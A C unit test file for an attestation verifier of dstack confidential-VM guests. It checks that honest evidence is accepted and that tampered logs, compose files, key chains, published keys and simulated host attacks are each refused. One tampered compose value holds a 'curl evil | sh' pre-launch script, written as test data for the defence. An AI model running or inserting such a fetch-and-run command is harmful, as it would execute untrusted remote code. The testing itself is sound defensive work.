/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Evidence of a dstack guest: what is honest is accepted under the policy made
 * from it; each change of it is refused at the check that owns it, and there
 * first.
 */
#include "tests/unit/check.h"
#include "tests/unit/dstack_world.h"
#include "tests/unit/vectors.h"
#include "verify/base/text.h"

#include <stdlib.h>

static struct dstack_world world;

static struct verdict *judge(const struct dstack_plan *plan, bool with_policy)
{
	AUTO(blob_drop) struct blob policy = { 0 };
	AUTO(blob_drop) struct blob response = { 0 };
	struct verdict *v = calloc(1, sizeof(*v));

	assert_non_null(v);
	if (with_policy)
		policy = dstack_world_policy(&world, plan);
	response = dstack_world_make(&world, plan);
	dstack_world_judge(&world, blob_span(&response), blob_span(&policy), v);
	return v;
}

static void forget(struct verdict *v)
{
	verdict_drop(v);
	free(v);
}

/* ---- each check refuses -------------------------------------------------------- */

#define TO_LOG(from, to)                     \
	{                                    \
		{                            \
			DSTACK_LOG, from, to \
		}                            \
	}
#define TO_SENT_LOG(from, to)                     \
	{                                         \
		{                                 \
			DSTACK_LOG_SENT, from, to \
		}                                 \
	}
#define TO_COMPOSE(from, to)                     \
	{                                        \
		{                                \
			DSTACK_COMPOSE, from, to \
		}                                \
	}
#define TO_POLICY(from, to)                     \
	{                                       \
		{                               \
			DSTACK_POLICY, from, to \
		}                               \
	}
#define PIN                        \
	"@sha256:0f0e0d0c0b0a0908" \
	"0706050403020100ffeeddccbbaa99887766554433221100"
#define BREAKS(rule, from, to)                                          \
	{                                                               \
		"dstack." rule, 1, true,                                \
		{                                                       \
			.edit = {                                       \
				{ DSTACK_COMPOSE, from, to },           \
				{ DSTACK_DROP, "composeHashes", NULL }, \
			}                                               \
		}                                                       \
	}

static const struct trial {
	const char *id;
	int code;
	bool with_policy;
	struct dstack_plan plan;
} trials[] = {
	/* The log */
	{ "dstack.log.form", 1, false,
	    { .edit = TO_SENT_LOG("\"event\":\"boot-mr-done\",", "") } },
	{ "dstack.log.form", 1, false,
	    { .edit = TO_SENT_LOG("[{", "[{\"x\":1,") } },
	{ "dstack.log.form", 1, false,
	    { .edit = TO_SENT_LOG(
		  "\"event_type\":6,", "\"event_type\":134217729,") } },
	{ "dstack.log.form", 1, false,
	    { .edit = TO_SENT_LOG("\"imr\":2}", "\"imr\":4}") } },
	{ "dstack.log.form", 2, false,
	    { .edit = TO_SENT_LOG("\"event\":\"boot-mr-done\"",
		  "\"version\":3,\"event\":\"boot-mr-done\"") } },
	{ "dstack.log.digest", 1, false,
	    { .edit = TO_SENT_LOG("\"digest\":\"\",\"event\":\"boot-mr-done\"",
		  "\"digest\":"
		  "\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
		  "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\","
		  "\"event\":\"boot-mr-done\"") } },
	{ "dstack.log.digest", 1, false,
	    { .edit = TO_SENT_LOG("\"digest\":\"\",\"event\":\"boot-mr-done\"",
		  "\"digest\":\"\",\"preimage\":\"00\",\"version\":2,"
		  "\"event\":\"boot-mr-done\"") } },
	{ "dstack.log.rtmr0", 1, false,
	    { .edit = TO_SENT_LOG("[{\"digest\":\"a0", "[{\"digest\":\"a1") } },
	{ "dstack.log.rtmr1", 1, false,
	    { .edit = TO_SENT_LOG("{\"digest\":\"b0", "{\"digest\":\"b2") } },
	{ "dstack.log.rtmr2", 1, false,
	    { .edit = TO_SENT_LOG("{\"digest\":\"c0", "{\"digest\":\"c1") } },
	{ "dstack.log.rtmr3", 1, false,
	    { .edit = TO_SENT_LOG("boot-mr-done", "boot-mr-dony") } },
	{ "dstack.log.rtmr3", 1, false,
	    { .edit = TO_SENT_LOG("\"affiant-config\"", "\"compose-hash\"") } },
	{ "dstack.log.rtmr3", 1, false,
	    { .edit = { { DSTACK_REGISTER, "rtmr3", NULL } } } },
	/* The version decides over the digest, which nobody sends. */
	{ "dstack.log.rtmr3", 1, false,
	    { .edit = TO_SENT_LOG("\"event\":\"boot-mr-done\"",
		  "\"version\":2,\"event\":\"boot-mr-done\"") } },
	{ "dstack.log.order", 1, false,
	    { .edit = TO_LOG("system-preparing", "other-preparing") } },
	{ "dstack.log.order", 1, false,
	    { .edit = TO_LOG("system-ready", "system-steady") } },
	{ "dstack.log.identity", 1, false,
	    { .edit = TO_LOG("boot-mr-done", "compose-hash") } },
	{ "dstack.log.identity", 1, false,
	    { .edit = TO_LOG("boot-mr-done", "key-provider") } },
	{ "dstack.log.identity", 1, false,
	    { .edit = TO_LOG("\"instance-id\"", "\"instance-no\"") } },
	{ "dstack.log.identity", 1, false,
	    { .edit = TO_LOG("\"compose-hash\",\"event_payload\":\"",
		  "\"compose-hash\",\"event_payload\":\"00") } },
	{ "dstack.log.config", 1, false, { .measured_config_is_other = true } },
	{ "dstack.log.config", 1, false,
	    { .edit = TO_LOG("\"affiant-config\",\"event_payload\":\"",
		  "\"affiant-config\",\"event_payload\":\"00") } },

	/* The app-compose */
	{ "dstack.compose.hash", 1, false,
	    { .edit = { { DSTACK_COMPOSE_SENT, "8080:8080", "8081:8080" } } } },
	{ "dstack.compose.hash", 1, false,
	    { .edit = { { DSTACK_COMPOSE_SENT, "{\"allowed_envs\"",
		  "{ \"allowed_envs\"" } } } },
	{ "dstack.compose.hash", 2, false,
	    { .edit = { { DSTACK_LEAVE, "log", NULL },
		  { DSTACK_LEAVE, "chain", NULL } } } },
	{ "dstack.compose.form", 1, false,
	    { .edit = TO_COMPOSE("\"gateway_enabled\":false",
		  "\"gateway_enabled\":\"no\"") } },
	{ "dstack.compose.form", 1, false,
	    { .edit = TO_COMPOSE(
		  "\"gateway_enabled\":false", "\"runner\":\"bash\"") } },
	{ "dstack.mrconfigid", 1, false, { .binding = DSTACK_BIND_OTHER } },
	{ "dstack.mrconfigid", 1, false,
	    { .binding = DSTACK_BIND_V3,
		.edit = { { DSTACK_MR_CONFIG_SENT, "kms", "tpm" } } } },
	{ "dstack.mrconfigid", 1, false,
	    { .binding = DSTACK_BIND_V3,
		.edit = { { DSTACK_MR_CONFIG, "\"kms\"", "\"tpm\"" } } } },
	{ "dstack.mrconfigid", 1, false,
	    { .binding = DSTACK_BIND_V3,
		.edit = { { DSTACK_MR_CONFIG, "\"version\":3",
		    "\"version\":3,\"x\":1" } } } },

	/* The key chain */
	{ "dstack.key.form", 1, false,
	    { .edit = { { DSTACK_CHAIN_SENT, "\"path\":\"/oracle\",",
		  "" } } } },
	{ "dstack.key.form", 2, false,
	    { .edit = { { DSTACK_CHAIN_SENT, "dstack-getkey", "getkey" } } } },
	{ "dstack.key.app-id", 1, false, { .other_app = true } },
	{ "dstack.key.app-id", 2, false,
	    { .edit = { { DSTACK_LEAVE, "log", NULL },
		  { DSTACK_LEAVE, "compose", NULL } } } },
	{ "dstack.key.root", 1, false, { .no_root = true } },
	{ "dstack.key.root", 1, false,
	    /* {"name":"none","id":""} */
	    { .edit = TO_LOG("7b226e616d65223a226b6d73222c226964223a22333035393"
			     "33031333036303732613836227d",
		  "7b226e616d65223a226e6f6e65222c226964223a22227d") } },
	{ "dstack.key.signer", 1, false, { .other_key = true } },

	/* The policy: evidence that is authentic, and another one */
	{ "dstack.policy.evidence", 1, true,
	    { .edit = { { DSTACK_LEAVE, "log", NULL },
		  { DSTACK_LEAVE, "compose", NULL },
		  { DSTACK_LEAVE, "chain", NULL } } } },
	{ "dstack.policy.os-image", 1, true,
	    { .edit = { { DSTACK_REGISTER, "mrtd", NULL } } } },
	{ "dstack.policy.app-id", 1, true,
	    { .edit = { { DSTACK_EMPTY, "appIds", NULL } } } },
	{ "dstack.policy.kms-root", 1, true,
	    { .root_secret = (const uint8_t[32]){ 0x33, 3 } } },
	{ "dstack.policy.kms-root", 1, true,
	    { .edit = { { DSTACK_LEAVE, "chain", NULL } } } },
	{ "dstack.policy.key-provider", 1, true,
	    { .edit = TO_POLICY("\"keyProviders\":[\"kms\"],\"kmsRoots\"",
		  "\"keyProviders\":[\"tpm\",\"local\"],\"kmsRoots\"") } },
	{ "dstack.policy.key-provider-id", 1, true,
	    { .edit = TO_POLICY("3059301306072a86", "3059301306072a87") } },
	{ "dstack.policy.purpose", 1, true,
	    { .edit = TO_POLICY("\"ethereum\"", "\"other\"") } },
	{ "dstack.policy.config-event", 1, true, { .no_config = true } },
	{ "dstack.policy.compose-hash", 1, true,
	    { .edit = TO_COMPOSE("8080:8080", "8081:8080") } },
	{ "dstack.policy.compose-hash", 1, true,
	    { .edit = { { DSTACK_EMPTY, "composeHashes", NULL } } } },
	{ "dstack.policy.compose.text", 1, true,
	    { .edit = { { DSTACK_LEAVE, "compose", NULL } } } },

	/* Rules of the app-compose, with any hash: another app, made to run */
	BREAKS("policy.compose.runner", "\"docker-compose\"", "\"podman\""),
	BREAKS("policy.compose.images", PIN, ":latest"),
	BREAKS("policy.compose.images", "sha256:0f", "sha256:0F"),
	BREAKS("policy.compose.images", "@sha256:0f0e", "@sha256:0e0f"),
	BREAKS("policy.compose.images", "affiant@", "affiant${X}@"),
	BREAKS("policy.compose.images", "    image: registry",
	    "    build: .\\n    x: registry"),
	BREAKS("policy.compose.images",
	    "services:", "include: [other.yaml]\\nservices:"),
	BREAKS("policy.compose.images", "    image: registry",
	    "    image: &a registry"),
	BREAKS("policy.compose.images",
	    "    ports:", "    extends: x\\n    ports:"),
	BREAKS("policy.compose.scripts", "\"manifest_version\"",
	    "\"pre_launch_script\":\"curl evil | sh\",\"manifest_version\""),
	BREAKS("policy.compose.scripts", "\"manifest_version\"",
	    "\"init_script\":[\"true\"],\"manifest_version\""),
	BREAKS("policy.compose.scripts", "\"manifest_version\"",
	    "\"bash_script\":\"true\",\"manifest_version\""),
	BREAKS("policy.compose.gateway", "\"gateway_enabled\":false",
	    "\"gateway_enabled\":true"),
	BREAKS("policy.compose.gateway", "\"manifest_version\"",
	    "\"tproxy_enabled\":true,\"manifest_version\""),
	BREAKS("policy.compose.gateway", "\"manifest_version\"",
	    "\"features\":[\"tproxy-net\"],\"manifest_version\""),
	BREAKS("policy.compose.keys", "\"key_provider\":\"kms\"",
	    "\"key_provider\":\"none\""),
	BREAKS("policy.compose.envs", "\"allowed_envs\":[]",
	    "\"allowed_envs\":[\"URL\"]"),
	BREAKS("policy.compose.public", "\"public_logs\":false",
	    "\"public_logs\":true"),
	BREAKS("policy.compose.public", "\"public_sysinfo\":false",
	    "\"public_sysinfo\":true"),
	BREAKS("policy.compose.public", "\"public_tcbinfo\":false,", ""),
	BREAKS("policy.compose.members", "\"manifest_version\"",
	    "\"debug\":true,\"manifest_version\""),
};

static bool try_one(const struct trial *t)
{
	struct verdict *v = judge(&t->plan, t->with_policy);
	const char *id = response_world_first_failure(v);
	bool ok =
	    strcmp(id, t->id) == 0 && verdict_exit_code(v->kind) == t->code;

	if (!ok)
		print_error("%s: fails at '%s' with code %d: %s\n", t->id, id,
		    verdict_exit_code(v->kind), v->summary);
	forget(v);
	return ok;
}

static void each_change_fails_at_its_check(void **state)
{
	size_t n_bad = 0;

	(void)state;
	for (size_t i = 0; i < COUNT(trials); i++)
		n_bad += try_one(&trials[i]) ? 0 : 1;
	assert_int_equal(n_bad, 0);
}

/* ---- what is honest ------------------------------------------------------------- */

static const char *claim_of(const struct verdict *v, const char *name)
{
	for (size_t i = 0; i < v->n_claims; i++)
		if (strcmp(v->claims[i].name, name) == 0)
			return v->claims[i].value;
	return "";
}

static void expect_row(
    const struct verdict *v, const char *id, enum check_result want)
{
	const struct check_outcome *o = verdict_find(v, id);

	if (o == NULL || o->result != want)
		fail_msg(
		    "%s: %s", id, o == NULL ? "no such row" : o->fault.text);
}

static void expect_words(
    const struct verdict *v, enum link_id id, const char *words)
{
	if (strstr(v->links[id].why, words) == NULL)
		fail_msg("'%s' is not in '%s'", words, v->links[id].why);
}

static void expect_code(const struct verdict *v, int code)
{
	if (verdict_exit_code(v->kind) != code)
		fail_msg("code %d: %s", verdict_exit_code(v->kind), v->summary);
}

static void an_honest_guest_is_accepted_under_the_policy_made_from_it(
    void **state)
{
	const struct dstack_plan plan = { .binding = DSTACK_BIND_V1 };
	struct verdict *v = judge(&plan, true);

	(void)state;
	expect_code(v, 0);
	assert_int_equal(v->links[LINK_CODE].state, LINK_PROVED);
	expect_words(v, LINK_CODE,
	    "1 image, no scripts, gateway off, keys from kms, 0 env names");
	expect_words(v, LINK_CONFIG, "measured in RTMR3");
	expect_words(v, LINK_SIGNER, "the quoted statement does");
	assert_string_equal(claim_of(v, "dstack.keyProvider"), "kms");
	assert_string_equal(claim_of(v, "dstack.configMeasured"), "true");
	assert_string_equal(claim_of(v, "dstack.mrConfigIdBound"), "true");
	assert_string_equal(
	    claim_of(v, "dstack.appEvents"), "[\"affiant-config\"]");
	forget(v);
}

static void without_a_policy_it_is_authentic_and_says_what_the_app_may_do(
    void **state)
{
	const struct dstack_plan plan = {
		.edit = { { DSTACK_COMPOSE, PIN, ":latest" },
		    { DSTACK_COMPOSE, "\"public_logs\":false",
			"\"public_logs\":true,\"pre_launch_script\":\"x\"" } },
	};
	struct verdict *v = judge(&plan, false);

	(void)state;
	expect_code(v, 3);
	expect_words(v, LINK_CODE,
	    "neither system nor app. App: 1 image (1 NOT pinned), 1 script as "
	    "root");
	expect_words(v, LINK_CODE, "public: logs");
	forget(v);
}

static void each_generation_of_mrconfigid_binds(void **state)
{
	static const enum dstack_binding all[] = { DSTACK_BIND_V1,
		DSTACK_BIND_V2, DSTACK_BIND_V3, DSTACK_BIND_UNTAGGED };

	(void)state;
	for (size_t i = 0; i < COUNT(all); i++) {
		const struct dstack_plan plan = { .binding = all[i] };
		struct verdict *v = judge(&plan, true);

		expect_code(v, 0);
		expect_row(v, "dstack.mrconfigid", CHECK_PASS);
		forget(v);
	}
}

static void a_zero_mrconfigid_is_not_bound_and_said_so(void **state)
{
	const struct dstack_plan zero = { .binding = DSTACK_BIND_ZERO };
	const struct dstack_plan open = { .binding = DSTACK_BIND_V3,
		.edit = { { DSTACK_LEAVE, "mr-config", NULL } } };
	struct verdict *v = judge(&zero, false);

	(void)state;
	expect_row(v, "dstack.mrconfigid", CHECK_NOT_RUN);
	assert_non_null(strstr(
	    verdict_find(v, "dstack.mrconfigid")->fault.text, "not bound"));
	assert_string_equal(claim_of(v, "dstack.mrConfigIdBound"), "false");
	forget(v);
	v = judge(&open, false);
	expect_row(v, "dstack.mrconfigid", CHECK_NOT_RUN);
	assert_string_equal(claim_of(v, "dstack.mrConfigIdBound"), "false");
	forget(v);
}

/* Names collide freely behind system-ready. */
static void events_of_the_application_identify_nothing(void **state)
{
	const struct dstack_plan plan = {
		.no_config = true,
		.edit = { { DSTACK_LOG,
		    "\"system-ready\",\"event_payload\":\"\","
		    "\"event_type\":134217729,\"imr\":3}",
		    "\"system-ready\",\"event_payload\":\"\","
		    "\"event_type\":134217729,\"imr\":3},{\"digest\":\"\","
		    "\"event\":\"compose-hash\",\"event_payload\":\"00\","
		    "\"event_type\":134217729,\"imr\":3}" } },
	};
	struct verdict *v = judge(&plan, false);

	(void)state;
	expect_code(v, 3);
	expect_row(v, "dstack.compose.hash", CHECK_PASS);
	assert_string_equal(
	    claim_of(v, "dstack.appEvents"), "[\"compose-hash\"]");
	expect_words(v, LINK_CONFIG, "it is not measured");
	forget(v);
}

static void an_event_of_version_2_has_its_own_digest(void **state)
{
	const struct dstack_plan plan = {
		.edit =
		    TO_LOG("\"boot-mr-done\"", "\"boot-mr-done\",\"version\":2")
	};
	struct verdict *v = judge(&plan, true);

	(void)state;
	expect_code(v, 0);
	forget(v);
}

/* As it travels in certificates: registers 0 to 2 are held against lists. */
static void a_stripped_log_still_says_which_app_it_is(void **state)
{
	AUTO(blob_drop) struct blob whole = { 0 };
	const struct dstack_plan honest = { .binding = DSTACK_BIND_ZERO };
	char boot[2048];
	struct dstack_plan plan = honest;
	struct verdict *v;

	(void)state;
	whole = dstack_world_make(&world, &honest);
	{
		const char *log = (const char *)world.log.p;
		const char *end =
		    strstr(log, "{\"digest\":\"\",\"event\":\"system-prep");

		assert_non_null(end);
		snprintf(boot, sizeof(boot), "%.*s", (int)(end - log), log);
	}
	plan.edit[0] = (struct dstack_edit){ DSTACK_LOG_SENT, boot, "[" };
	v = judge(&plan, true);
	expect_code(v, 0);
	expect_row(v, "dstack.log.rtmr1", CHECK_NOT_RUN);
	expect_row(v, "dstack.log.rtmr3", CHECK_PASS);
	forget(v);
}

/* ---- attacks --------------------------------------------------------------------- */

/* As a policy's member: a list with one register of this machine. */
static void put_list(struct wr *w, const char *name, const uint8_t value[48])
{
	char hex[HEX_SIZE(48)];

	hex_encode(span_of(value, 48), hex);
	wr_printf(w, "\"%s\":[\"%s\"]", name, hex);
}

/*
 * The host boots a kernel of its own under the right firmware, sets the right
 * MRCONFIGID, and lets that kernel measure the right app into RTMR3. MRTD,
 * MRCONFIGID and RTMR3 are then those of the honest machine.
 */
static void a_host_with_a_kernel_of_its_own_is_refused(void **state)
{
	const struct dstack_plan attack = {
		.binding = DSTACK_BIND_V1,
		.edit = { { DSTACK_LOG, "{\"digest\":\"b0",
			      "{\"digest\":\"e0" },
		    { DSTACK_LOG, "{\"digest\":\"c0", "{\"digest\":\"e1" } },
	};
	AUTO(blob_drop) struct blob response = { 0 };
	AUTO(blob_drop) struct blob policy = { 0 };
	const struct sim_quote *q = &world.w.recipe.quote;
	struct fault f = FAULT_INIT;
	struct wr w = wr_grow(1 << 16, "test.policy", &f);
	struct verdict *v = calloc(1, sizeof(*v));
	uint8_t mrconfigid[48];
	struct sha256 hash;

	(void)state;
	assert_non_null(v);
	response = dstack_world_make(&world, &attack);
	hash = sha256_of(blob_span(&world.compose));
	memset(mrconfigid, 0, sizeof(mrconfigid));
	mrconfigid[0] = 1;
	memcpy(mrconfigid + 1, hash.b, sizeof(hash.b));
	wr_text(&w, "{\"type\":\"affiant.policy.v1\",\"tdx\":{");
	put_list(&w, "mrtd", q->mr_td);
	wr_text(&w, ",");
	put_list(&w, "mrconfigid", mrconfigid);
	wr_text(&w, "},\"dstack\":{\"composeHashes\":[\"");
	{
		char hex[HEX_SIZE(32)];

		hex_encode(sha256_span(&hash), hex);
		wr_text(&w, hex);
	}
	wr_text(&w, "\"]}}");
	assert_ok(wr_done(&w, &policy), f);

	/* The tutorial's check: everything matches, and nothing is proved. */
	dstack_world_judge(&world, blob_span(&response), blob_span(&policy), v);
	expect_code(v, 3);
	assert_int_equal(v->links[LINK_CODE].state, LINK_NOT_CHECKED);
	expect_words(v, LINK_CODE, "any kernel can say this");
	forget(v);

	/* A policy that names the system refuses it. */
	v = judge(&attack, true);
	expect_code(v, 1);
	assert_string_equal(
	    response_world_first_failure(v), "dstack.policy.os-image");
	assert_int_equal(v->links[LINK_CODE].state, LINK_REFUTED);
	forget(v);
}

/* The same system, another app: a policy has to name both. */
static void a_system_without_an_app_is_not_accepted(void **state)
{
	const struct dstack_plan plan = {
		.edit = { { DSTACK_DROP, "composeHashes", NULL },
		    { DSTACK_DROP, "images", NULL } },
	};
	struct verdict *v = judge(&plan, true);

	(void)state;
	expect_code(v, 3);
	expect_words(v, LINK_CODE, "a system, and no app");
	forget(v);
}

static void no_key_service_is_said(void **state)
{
	const struct dstack_plan plan = {
		.no_root = true,
		/* {"name":"local-sgx","id":"30"} */
		.edit =
		    TO_LOG("7b226e616d65223a226b6d73222c226964223a22333035393"
			   "33031333036303732613836227d",
			"7b226e616d65223a226c6f63616c2d736778222c226964223a2233"
			"30227"
			"d"),
	};
	struct verdict *v = judge(&plan, false);

	(void)state;
	expect_code(v, 3);
	expect_row(v, "dstack.key.root", CHECK_NOT_RUN);
	expect_words(v, LINK_SIGNER, "no key service");
	assert_string_equal(claim_of(v, "dstack.keyProvider"), "local");
	forget(v);
}

/* No point of the curve has 5 for its x. */
static void a_signature_by_no_key_is_refused(void **state)
{
	static const char pattern[] = "\"signatures\":[\"";
	const struct dstack_plan honest = { .binding = DSTACK_BIND_ZERO };
	AUTO(blob_drop) struct blob response = { 0 };
	char from[96], to[96];
	struct dstack_plan plan = honest;
	const char *at;
	struct verdict *v;

	(void)state;
	response = dstack_world_make(&world, &honest);
	at = strstr((const char *)world.chain.p, pattern);
	assert_non_null(at);
	snprintf(from, sizeof(from), "%.*s", (int)strlen(pattern) + 64, at);
	snprintf(to, sizeof(to), "%s%064d", pattern, 5);
	plan.edit[0] = (struct dstack_edit){ DSTACK_CHAIN_SENT, from, to };
	v = judge(&plan, false);
	expect_code(v, 1);
	assert_string_equal(response_world_first_failure(v), "dstack.key.app");
	forget(v);
}

/* ---- published keys ---------------------------------------------------------------- */

static void an_app_key_of_the_simulator_is_refused_always(void **state)
{
	static const char *const files[] = {
		"dstack/simulator-v0.5.5/appkeys.json",
		"dstack/simulator-main/appkeys.json",
	};

	(void)state;
	for (size_t i = 0; i < COUNT(files); i++) {
		struct json *doc = vectors_json(files[i]);
		uint8_t secret[32];
		struct dstack_plan plan = { .app_secret = secret };
		struct verdict *v;

		vectors_hex_into(json_root(doc), "k256_key", secret, 32);
		v = judge(&plan, false);
		expect_code(v, 1);
		assert_string_equal(
		    response_world_first_failure(v), "dstack.key.published");
		forget(v);
		json_free(doc);
	}
}

static void a_signer_whose_secret_is_published_is_refused(void **state)
{
	static struct statement s;
	AUTO(blob_drop) struct blob canonical = { 0 };
	AUTO(blob_drop) struct blob response = { 0 };
	struct response_plan plan = { 0 };
	struct fault f = FAULT_INIT;
	struct verdict *v = calloc(1, sizeof(*v));

	(void)state;
	assert_non_null(v);
	statements_one(&s);
	assert_ok(
	    hex_decode(span_text("17408afd65132f01b1afc1d727ad5b75b151f006"),
		s.signer.b, sizeof(s.signer.b), "test", &f),
	    f);
	canonical = statements_bytes(&s);
	plan.canonical = blob_span(&canonical);
	response = response_world_make(&world.w, &s, &plan);
	dstack_world_judge(&world, blob_span(&response), span_of(NULL, 0), v);
	expect_row(v, "signature.published", CHECK_FAIL);
	expect_code(v, 1);
	forget(v);
}

/* ---- the form of the policy --------------------------------------------------------- */

static void a_policy_of_another_form_is_refused(void **state)
{
	static const struct {
		const char *object, *at;
	} forms[] = {
		{ "{\"appId\":[]}", "policy.dstack.members" },
		{ "{\"appIds\":[\"00\"]}", "policy.dstack.appIds" },
		{ "{\"composeHashes\":\"\"}", "policy.dstack.composeHashes" },
		{ "{\"configEvent\":false}", "policy.dstack.configEvent" },
		{ "{\"keyProviders\":[\"local-sgx\"]}",
		    "policy.dstack.keyProviders" },
		{ "{\"keyProviderIds\":[\"\"]}",
		    "policy.dstack.keyProviderIds" },
		{ "{\"kmsRoots\":[\"02\"]}", "policy.dstack.kmsRoots" },
		{ "{\"purposes\":[1]}", "policy.dstack.purposes" },
		{ "{\"osImages\":[{\"mrtd\":\"00\"}]}",
		    "policy.dstack.osImages" },
		{ "{\"osImages\":{}}", "policy.dstack.osImages" },
		{ "{\"compose\":[]}", "policy.dstack.compose" },
		{ "{\"compose\":{\"gateway\":false}}",
		    "policy.dstack.compose" },
		{ "{\"compose\":{\"image\":[]}}", "policy.dstack.compose" },
		{ "{\"compose\":{\"scripts\":[\"x\"]}}",
		    "policy.dstack.compose" },
		{ "{\"compose\":{\"keyProviders\":[\"x\"]}}",
		    "policy.dstack.compose" },
		{ "[]", "policy.members" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(forms); i++) {
		char text[256];
		struct policy p = { 0 };
		struct fault f = FAULT_INIT;

		snprintf(text, sizeof(text),
		    "{\"type\":\"affiant.policy.v1\",\"dstack\":%s}",
		    forms[i].object);
		assert_refused(policy_parse(span_text(text), &p, &f), f,
		    FAULT_FORMAT, forms[i].at);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_change_fails_at_its_check),
		cmocka_unit_test(
		    an_honest_guest_is_accepted_under_the_policy_made_from_it),
		cmocka_unit_test(
		    without_a_policy_it_is_authentic_and_says_what_the_app_may_do),
		cmocka_unit_test(each_generation_of_mrconfigid_binds),
		cmocka_unit_test(a_zero_mrconfigid_is_not_bound_and_said_so),
		cmocka_unit_test(events_of_the_application_identify_nothing),
		cmocka_unit_test(an_event_of_version_2_has_its_own_digest),
		cmocka_unit_test(a_stripped_log_still_says_which_app_it_is),
		cmocka_unit_test(a_host_with_a_kernel_of_its_own_is_refused),
		cmocka_unit_test(a_system_without_an_app_is_not_accepted),
		cmocka_unit_test(no_key_service_is_said),
		cmocka_unit_test(a_signature_by_no_key_is_refused),
		cmocka_unit_test(an_app_key_of_the_simulator_is_refused_always),
		cmocka_unit_test(a_signer_whose_secret_is_published_is_refused),
		cmocka_unit_test(a_policy_of_another_form_is_refused),
	};
	int failed;

	dstack_world_open(&world);
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	dstack_world_close(&world);
	return failed;
}
